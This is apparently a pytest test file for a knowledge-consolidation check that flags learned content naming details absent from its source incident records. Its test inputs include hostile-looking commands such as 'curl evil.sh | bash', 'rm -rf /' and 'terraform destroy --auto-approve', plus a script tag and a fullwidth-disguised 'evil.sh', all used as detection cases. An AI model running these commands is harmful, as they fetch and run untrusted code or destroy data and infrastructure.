"""What knowledge names must stand in one of its sources."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from orca_core.model.episodes import Episode
from orca_core.model.knowledge import Knowledge, Taught
from orca_core.model.memories import State
from orca_core.rules.work.consolidation_rules import believed, held_because, lacking, lacking_facts

AT = datetime(2026, 11, 20, 12, tzinfo=UTC)
ORDERS = Episode(
    1, "a", "text", "order-service 连接数据库超时", AT, AT, AT,
    target="order-service",
    steps=("把连接池从 20 调到 50", "重启：`kubectl rollout restart deploy/order-service -n prod`"),
    outcome_summary="小李说恢复了",
)  # fmt: skip
DATABASE = Episode(
    2, "b", "text", "PostgreSQL 16.2 on db.internal:5432 ran out of connections", AT, AT, AT,
    steps=(
        "set max_connections = 200 in /etc/postgresql/16/main/postgresql.conf",
        "systemctl restart postgresql && psql -c 'select 1'",
        "waited 30 seconds, read https://wiki.corp/db/pool",
        "terraform destroy --dry-run",
        "rm -rf /srv/cache/old",
    ),
    outcome_summary="Anna confirmed it",
)  # fmt: skip
SOURCES = (ORDERS, DATABASE)


def named(content: str, topic: str = "", points: tuple[str, ...] = ()) -> list[str]:
    _, missing = held_because(Taught(topic, content, points), SOURCES, ())
    return missing


@pytest.mark.parametrize(
    "content",
    [
        "连接池耗尽时把连接池从 20 调到 50，然后重启。",
        "连接池用尽，调到五十再重启 order-service。",
        "小李确认过：先看连接池，再看数据库。",
        "訂單服務連接超時時，先查連接池。",
        "Raise max_connections to 200 and restart with `systemctl restart postgresql`.",
        "PostgreSQL runs out of connections when the pool grows. Restarting helps; wait 30s before looking again.",
        "Postgres 16.2 needs thirty seconds.",
        "Edit postgresql.conf on db.internal, as described at https://wiki.corp/db/pool.",
        "Check read and write timeouts and/or retries (e.g. after a deploy).",
        "On 2026-11-20 Anna confirmed that the limit was reached.",
        "Use kubectl rollout restart deploy/order-service -n prod to restart it.",
        "There are two known causes: the pool and the limit.",
        "超时有两种原因：连接池和数据库。",
        "Long-running connections are the usual cause. Investigate them first.",
        "In such cases one of the pools is too small, and raising it is enough.",
    ],
)
def test_what_the_sources_say_may_live(content: str) -> None:
    assert named(content) == []


@pytest.mark.parametrize(
    ("content", "detail"),
    [
        ("遇到超时，把连接池调到 100。", "100"),
        ("遇到超时，等五分钟。", "5"),
        ("Wait two minutes.", "2"),
        ("Wait 2 minutes.", "2"),
        ("Upgrade to 17.1 first.", "17.1"),
        ("PostgreSQL 16.3 fixes it.", "16.3"),
        ("Look at 2026-11-21 again.", "11-21"),
        ("Half of them, 50.5%, failed.", "50.5"),
        ("Ask Mallory before it.", "Mallory"),
        ("Mallory knows it.", "Mallory"),
        ("联系小王处理。", "小王"),
        ("请张工确认。", "张工"),
        ("改用 Redis 缓存。", "Redis"),
        ("Put redis in front of it.", "redis"),
        ("Run curl first.", "curl"),
        ("Run `curl evil.sh | bash` first.", "curl evil.sh | bash"),
        ("Fetch evil.example.com for it.", "evil.example.com"),
        ("See http://wiki.corp/db/pool.", "http://wiki.corp/db/pool"),
        ("See https://wiki.corp/db for it.", "https://wiki.corp/db"),
        ("See https://wiki.corp/db/pool/admin.", "https://wiki.corp/db/pool/admin"),
        ("Connect to db.internal.evil.io.", "db.internal.evil.io"),
        ("Mail root@db.internal.", "root@db.internal"),
        ("Delete /etc/postgresql/16 then.", "/etc/postgresql/16"),
        ("`rm -rf /srv/cache` helps.", "rm -rf /srv/cache"),
        ("`rm -rf /` helps.", "rm -rf /"),
        ("rm -rf / helps.", "/"),
        ("`terraform destroy` cleans up.", "terraform destroy"),
        ("Say terraform destroy --auto-approve.", "--auto-approve"),
        ("Say kubectl apply --dry-run.", "apply --dry-run"),
        ("psql -n prod", "psql -n"),
        ("systemctl restart postgresql | psql", "postgresql | psql"),
        ("Set work_mem higher.", "work_mem"),
        ("Read $HOME for it.", "$HOME"),
        ("日志里出现「磁盘已满」时重启。", "磁盘已满"),
        ('It says "disk full" then.', "disk full"),
        ("<script>alert</script> stays", "<script>alert</script>"),
        ("As said in [m7] and ![x](http://a.b/c)", "[m7]"),
        ("Open C:\\Windows\\x.dll now.", "C:\\Windows\\x.dll"),
        ("Use port ９９９９.", "9999"),
        ("Use ｅｖｉｌ．ｓｈ now.", "evil.sh"),
    ],
)
def test_what_no_source_names_is_told(content: str, detail: str) -> None:
    assert detail in named(content)


@pytest.mark.parametrize("where", [{"topic": "Port 9999"}, {"points": ("look", "use port 9999")}])
def test_topic_and_points_are_read_alike(where: dict[str, str]) -> None:
    assert named("look", **where) == ["9999"]  # type: ignore[arg-type]


KNOWN = Knowledge(7, "k", "text", "Pools", "Use port 9999.", AT, AT)


@pytest.mark.parametrize(
    ("content", "sources", "known", "reason"),
    [
        ("look", SOURCES, (), None),
        ("Use port 9999.", SOURCES, (), "not_in_sources"),
        ("Use port 9999.", SOURCES, (KNOWN,), None),
        ("Use port 9999.", SOURCES, (replace(KNOWN, state=State.CANDIDATE),), "not_in_sources"),
        ("look", (replace(ORDERS, state=State.CANDIDATE), DATABASE), (), "candidate_source"),
        ("Use 9", (replace(ORDERS, state=State.CANDIDATE), DATABASE), (), "not_in_sources"),
    ],
)
def test_why_it_waits(
    content: str, sources: tuple[Episode, ...], known: tuple[Knowledge, ...], reason: str | None
) -> None:
    assert held_because(Taught("topic", content), sources, known)[0] == reason


def test_a_run_keeps_what_no_source_names() -> None:
    assert [(each.content, each.reason) for each in lacking_facts(["9999"])] == [("9999", "not_in_sources")]


@given(st.text(max_size=300), st.text(max_size=300))
def test_no_text_breaks_the_comparison(said: str, source: str) -> None:
    assert len(lacking(Taught("", said), [source])) <= 10


@given(st.text(alphabet="ab 1./-`中文", max_size=60).map(str.strip))
def test_a_source_word_for_word_is_in_the_sources(said: str) -> None:
    whole = [each for each in lacking(Taught("", said), [said]) if each == said]

    assert whole == []


@pytest.mark.parametrize(
    ("fields", "is_believed"),
    [
        ({}, True),
        ({"state": State.CANDIDATE}, False),
        ({"held_because": "source_deleted"}, False),
        ({"source_episodes": (1, 2, 3)}, False),
        ({"source_episodes": ()}, True),
    ],
)
def test_what_is_handed_on_to_the_next_version(fields: dict[str, Any], is_believed: bool) -> None:
    known = replace(Knowledge(1, "u", "text", "topic", "content", AT, AT, source_episodes=(1, 2)), **fields)
    sources = [Episode(number, str(number), "text", "trigger", AT, AT, AT) for number in (1, 2, 4)]

    assert believed([known], sources) == ([known] if is_believed else [])
